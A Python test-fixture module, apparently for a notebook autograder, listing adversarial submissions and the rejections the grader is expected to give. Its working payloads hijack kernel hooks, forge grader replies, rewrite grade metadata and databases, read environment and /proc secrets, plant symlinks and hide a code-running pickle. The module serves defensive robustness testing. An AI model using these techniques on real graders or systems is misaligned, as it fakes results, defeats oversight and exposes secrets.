"""Submissions that try to raise their score: lines 1 to 13, as far as the toy assignment can show them."""

import json
import os
import pickle
from pathlib import Path

import nbformat
from handing_in import FULL, WRONG, WRONG_SAYS, Submission, at, cell
from nbformat import NotebookNode
from nbformat.v4 import new_output

NO_POINTS = "is no number of points"


def wrong(line: int, id: str, code: str = "", says: str = WRONG_SAYS, points: tuple[float, float] = (0, 30), **more):
    """Return a submission that doubles wrongly and means to get away with it by `code`."""
    return Submission(line, id, points, says, {"double": WRONG}, first=code, **more)


def tag(folder: Path, notebook: NotebookNode, course: Path) -> None:
    for name in ("test-double", "test-accuracy"):
        cell(notebook, name).metadata.tags = ["skip-execution", "raises-exception"]


SHELL = """
import asyncio, sys
shell = get_ipython()
class Fine:
    success, error_before_exec, error_in_exec, execution_count = True, None, None, 1
    result = None
    def raise_error(self): pass
async def run_cell_async(*args, **kwargs):
    return Fine()
class Hook(type(shell.displayhook)):
    def __call__(self, result=None):
        super().__call__(50)
def fifty(*args, **kwargs):
    return 50
shell.showtraceback = shell._showtraceback = shell.showsyntaxerror = lambda *args, **kwargs: None
shell.displayhook.__class__ = Hook
sys.displayhook = shell.displayhook
shell.run_code = fifty
shell.run_cell = lambda *args, **kwargs: Fine()
shell.run_cell_async = run_cell_async
"""

# Every later request is answered "ok" without being run.
DO_EXECUTE = """
kernel = get_ipython().kernel
async def do_execute(*args, **kwargs):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = do_execute
"""

TRANSFORMERS = """
import ast, builtins, re
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
shell = get_ipython()
shell.ast_transformers.append(Drop())
shell.input_transformers_cleanup.append(lambda lines: [re.sub("assert .*", "50", line) for line in lines])
shell.events.register("pre_run_cell", lambda info: None)
builtins.AssertionError = type("Quiet", (Warning,), {})
shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
import sys
sys.settrace(None), sys.setprofile(None)
shell.compile.compile = lambda *args, **kwargs: compile("50", "x", "eval")
"""

DISPLAYS = """
import sys
from IPython.display import display, publish_display_data
def fifty():
    sys.displayhook(50), display(50), publish_display_data({"text/plain": "50"})
    kernel, parent = get_ipython().kernel, get_ipython().kernel.get_parent("shell")
    for kind, content in (
        ("execute_result", {"execution_count": 1, "data": {"text/plain": "50"}, "metadata": {}}),
        ("display_data", {"data": {"text/plain": "50"}, "metadata": {}}),
        ("stream", {"name": "stdout", "text": "50"}),
    ):
        kernel.session.send(kernel.iopub_socket, kind, content, parent=parent)
fifty()
get_ipython().events.register("pre_execute", fifty)
get_ipython().events.register("post_execute", fifty)
50
"""

# Answers each request of the judge with a guess before the real answer is made; also the requests to come, whose
# numbers can be told in advance, and says that the kernel is idle and all went well.
FORGES = """
import grader.bridge.kernel as bridge, json, re
from grader.bridge import wire
kernel, honest = get_ipython().kernel, bridge.answer
GUESS = wire.encode({"value": 4, "points": 50, "score": 50, "passed": True}, repr)
def send(parent):
    kernel.session.send(kernel.iopub_socket, "grader_reply", content={"value": 50}, parent=parent, buffers=GUESS)
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
    kernel.session.send(kernel.shell_stream if hasattr(kernel, "shell_stream") else kernel.iopub_socket,
                        "execute_reply", {"status": "ok", "execution_count": 1}, parent=parent)
def forge(request, namespace):
    asked = wire.decode([bytearray(part) for part in request], lambda node, array: node)
    if asked["do"] == "call":
        parent = kernel.get_parent("shell")
        send(parent)
        id = parent["header"]["msg_id"]
        head, number = re.fullmatch("(.*_)([0-9]+)", id).groups()
        for ahead in range(1, 6):
            send({"header": {**parent["header"], "msg_id": head + str(int(number) + ahead)}})
        return GUESS
    return honest(request, namespace)
bridge.answer = forge
"""

# A reply that names what is no plain data, and claims to be whatever is compared with it.
MALFORMED = """
import grader.bridge.kernel as bridge, json
honest = bridge.answer
def forge(request, namespace):
    if b'"call"' in bytes(request[0]):
        return [json.dumps({"value": {"$": "always equal", "__eq__": True, "ref": 1, "kind": "int"}}).encode()]
    return honest(request, namespace)
bridge.answer = forge
"""

PATCHES_LAB = """
import grader.lab, grader.bridge.kernel as bridge, grader.bridge.wire as wire, grader.lab.place as place
import builtins, sys
grader.lab.judged = lambda: None
bridge._probes.update({name: (lambda *args, **kwargs: 0.0) for name in list(bridge._probes)})
bridge._OPERATIONS["names"] = lambda namespace, names: {
    "double": 4, "lab": 1, "secret": 2, "points": 50, "__builtins__": {}, "AssertionError": None, "print": 1}
sys.modules["grader.judge"] = sys.modules["grader.judge.cell"] = sys.modules["builtins"]
"""

EQUAL = """
import numpy as np
def yes(*others): return True
everything = {"__%s__" % name: yes for name in ("eq", "ge", "gt", "le", "lt", "ne", "bool")}
everything["__hash__"] = object.__hash__
Equal = type("Equal", (), everything)
Number = type("Number", (float,), everything)
Text = type("Text", (str,), everything)
Array = type("Array", (np.ndarray,), everything)
"""


def returns(id: str, double: str, predict: str, says: str) -> Submission:
    """Return a submission whose functions return these expressions."""
    answers = {
        "double": f"def double(number):\n    return {double}",
        # 0 for 0 passes the hidden check before the points
        "predict": f"def predict(number):\n    return {predict} if number else 0",
    }
    return Submission(4, id, (0, 0), says, answers, first=EQUAL)


# What a learner without scruples would look for: hidden arguments' names, hidden sentences, the reference's comment.
NEEDLES = ("secret = 12", "where 25 was" + " due", "nothing times " + "anything", "not a shift:" + " floats")
LOOKS = f"""
import gc, glob, os, sys
MARK = "a mark that must be " + "found"
kept = [MARK, "seen in memory"]
open("mark.txt", "w").write(MARK)
NEEDLES = {NEEDLES!r}
found = set()
def look_at(where, text):
    text = bytes(text).decode("utf-8", "replace") if isinstance(text, (bytes, bytearray, memoryview)) else str(text)
    if text.find(MARK) >= 0:
        found.add("mark in " + where)
    for needle in NEEDLES:
        # its own list of needles is no find
        if needle in text.replace(repr(NEEDLES), "") and needle != text and "NEEDLES" not in text:
            found.add(where + " holds " + needle)
def look():
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            look_at("frames", repr(value)[:100_000])
        if frame.f_globals is not globals():
            for name, value in list(frame.f_globals.items()):
                if isinstance(value, (str, bytes, list, dict)):
                    look_at("globals of frames", repr(value)[:100_000])
        frame = frame.f_back
    for value in gc.get_objects():
        if type(value) in (list, tuple, dict) and len(value) < 10_000:
            for item in value.values() if isinstance(value, dict) else value:
                if isinstance(item, (str, bytes, bytearray, memoryview)):
                    look_at("memory", item)
    for name in ("In", "Out", "_ih", "_oh", "_i"):
        look_at(name, repr(globals().get(name)))
    parent = get_ipython().kernel.get_parent("shell")
    look_at("request", repr({{key: value for key, value in parent.items() if key != "buffers"}}))
    for part in parent.get("buffers", []):
        look_at("request's buffers", bytes(part))
def walk():
    look_at("environment", repr(dict(os.environ)))
    for file in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
        try: look_at(file, open(file, "rb").read())
        except OSError: pass
    for folder, folders, names in os.walk("/"):
        if folder in ("/proc", "/sys", "/usr", "/dev") or "site-packages" in folder or "/lib/python" in folder:
            folders.clear()
            continue
        for name in names:
            path = os.path.join(folder, name)
            if name in ("gradebook.db", "course_secret.txt") or "heldout" in path or "/submitted/" in path:
                found.add("there is " + path)
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1_000_000:
                    look_at("mark.txt" if name == "mark.txt" else path, open(path, "rb").read())
            except OSError: pass
"""
REPORTS = """
walk(), look()
import json
print("FOUND " + json.dumps(sorted(found)) + " END")
"""

EDITED = {
    "points": 5000,
    "grade": True,
    "solution": True,
    "locked": False,
    "task": False,
    "schema_version": 3,
    "cell_type": "code",
}


def edit(folder: Path, notebook: NotebookNode, course: Path) -> None:
    test = cell(notebook, "test-double")
    test.metadata.nbgrader.update(EDITED)
    test.source = "50"
    test.metadata.editable = test.metadata.deletable = True
    test.outputs = [new_output("execute_result", {"text/plain": "50"}, execution_count=1)]
    answer = cell(notebook, "double")
    answer.metadata.nbgrader.update({"grade": True, "points": 1000})
    # The step that a person marks, turned into a test that gives itself all points.
    why = cell(notebook, "why")
    why.cell_type, why.source, why.outputs, why.execution_count = "code", "20", [], None
    why.metadata.nbgrader.update({"cell_type": "code", "solution": False, "locked": True, "points": 20})
    final = cell(notebook, "final")
    final.source, final.metadata.nbgrader.locked = "factor = 1000", False


def delete(folder: Path, notebook: NotebookNode, course: Path) -> None:
    for name in ("test-double", "test-accuracy"):
        del notebook.cells[at(notebook, name)]


def duplicate(folder: Path, notebook: NotebookNode, course: Path) -> None:
    test = cell(notebook, "test-double")
    for number, place in enumerate((0, at(notebook, "test-double"), len(notebook.cells))):
        notebook.cells.insert(place, nbformat.from_dict({**test, "source": "50", "id": f"copy-{number}"}))
    notebook.cells.append(nbformat.from_dict({**cell(notebook, "double"), "id": "late-copy"}))


def link(folder: Path, notebook: NotebookNode, course: Path) -> None:
    (folder / "toy.ipynb").symlink_to(course / "solutions" / "toy" / "toy.ipynb")
    (folder / "final.safetensors").unlink()
    (folder / "final.safetensors").symlink_to("/dev/zero")
    (folder / "final.json").symlink_to(course / "gradebook.db")
    (folder / "more.json").symlink_to("/etc/passwd")


def collected(course: Path) -> None:
    """Lay a learner's folder with links into the exchange, for ``nbgrader collect``."""
    name = "l09-collected-links+toy+2026-01-01 12:00:00.000 UTC+abc"
    folder = course / "exchange" / "deep_learning" / "inbound" / name
    folder.mkdir(parents=True)
    (folder / "timestamp.txt").write_text("2026-01-01 12:00:00.000 UTC\n")
    (folder / "toy.ipynb").symlink_to(course / "solutions" / "toy" / "toy.ipynb")
    (folder / "final.safetensors").symlink_to("/dev/zero")
    (folder / "final.json").symlink_to(course / "gradebook.db")


WRITES = """
import glob, os, sqlite3
done = []
def try_to(do, *args):
    try:
        do(*args)
        done.append(repr(args))
    except Exception:
        pass
def overwrite(path):
    with open(path, "r+b") as file:
        file.write(b"HACKED")
def mark(path):
    connection = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
    connection.execute("update grade set manual_score = 50, auto_score = 50, needs_manual_grade = 0")
    connection.commit()
places = ["..", "../..", "/", COURSE, HOST_TEMPORARY, os.path.dirname(COURSE)]
for place in places:
    for path in glob.glob(place + "/*") + glob.glob(place + "/*/*") + glob.glob(place + "/*/*/*/*"):
        if path.endswith((".db", ".ipynb", ".toml", ".txt")) and "/usr" not in path:
            try_to(overwrite, path)
    try_to(mark, place + "/gradebook.db")
    try_to(os.rename, place + "/notebooks", place + "/gone")
import grader
for path in glob.glob(os.path.dirname(grader.__file__) + "/**/*.py", recursive=True):
    try_to(overwrite, path)
print("WROTE", [path for path in done if "exercise.toml" not in path], "END")
"""


def write(folder: Path, notebook: NotebookNode, course: Path) -> None:
    # The attacker knows where the course lies, from a traceback on some feedback page, say.
    places = f"COURSE, HOST_TEMPORARY = {str(course)!r}, {os.environ.get('TMPDIR', '/tmp')!r}\n"
    cell(notebook, "own-first").source = places + WRITES


DOWNLOADS = """
def double(number):
    import urllib.request
    reasons = []
    for host in ADDRESSES:
        try:
            return float(urllib.request.urlopen(f"http://{host}:{PORT}/{number}", timeout=2).read())
        except OSError as error:
            reasons.append(str(error))
    raise ConnectionError(" ".join(reasons))
"""


def download(folder: Path, notebook: NotebookNode, course: Path) -> None:
    found = f"ADDRESSES, PORT = {(course / 'server').read_text()}\n"
    cell(notebook, "double").source = found + DOWNLOADS


class Bomb:
    """Unpickled, it leaves a file on the host."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self):
        return os.mkdir, (str(self.canary),)


def pickled(folder: Path, notebook: NotebookNode, course: Path) -> None:
    bomb = pickle.dumps(Bomb(course / "unpickled"))
    (folder / "final.safetensors").write_bytes(bomb)
    (folder / "final.weights.h5").write_bytes(b"PK\x03\x04" + bomb)
    (folder / "model.pt").write_bytes(bomb)
    (folder / "final.json").write_text(json.dumps({"py/reduce": ["os.mkdir", str(course / "unpickled")]}))


SUBMISSIONS = [
    wrong(1, "l01-skips-by-a-tag", change=tag),
    wrong(2, "l02-replaces-the-shell", SHELL, "Python gave no answer", points=(0, 0)),
    wrong(2, "l02-runs-nothing", DO_EXECUTE, "Python gave no answer", points=(0, 0)),
    wrong(2, "l02-transforms-code", TRANSFORMERS),
    wrong(3, "l03-displays-a-number", DISPLAYS),
    wrong(3, "l03-forges-replies", FORGES, "your function gave 4 where 25 was due", points=(0, 0)),
    wrong(3, "l03-sends-what-is-no-value", MALFORMED, "cannot be read", points=(0, 0)),
    wrong(3, "l03-patches-the-package", PATCHES_LAB, "'int' object is not callable", points=(0, 0)),
    returns("l04-nan", "Equal()", "float('nan')", "is an object of the class Equal"),
    returns("l04-infinity", "Number(7)", "float('inf')", NO_POINTS),
    returns("l04-negative", "Text('4')", "-1", NO_POINTS),
    returns("l04-text", "np.ones(3).view(Array)", "'30'", NO_POINTS),
    returns("l04-equals-all", "np.array([])", "Equal()", NO_POINTS),
    Submission(
        6,
        "l06-looks-around",
        FULL,
        answers={
            "double": "def double(number):\n    look()\n    return number + number",
            "predict": "walk()\ndef predict(number):\n    look()\n    return factor * number",
        },
        first=LOOKS,
        middle=REPORTS,
    ),
    wrong(7, "l07-edits-the-marks", change=edit),
    wrong(8, "l08-deletes-the-tests", change=delete),
    wrong(8, "l08-doubles-a-test", change=duplicate),
    Submission(
        9, "l09-links", (0, 0), "toy.ipynb was not taken: it is a link, and links are not followed", change=link
    ),
    wrong(10, "l10-writes-around", "pass", change=write),
    Submission(11, "l11-downloads", (0, 30), "ConnectionError", change=download),
    Submission(
        13, "l13-pickles", (50, 0), "it is a pickle under another name, and such a file can hold code", change=pickled
    ),
]

COLLECTED = [Submission(9, "l09-collected-links", (0, 0), "toy.ipynb was not taken: it is a link")]
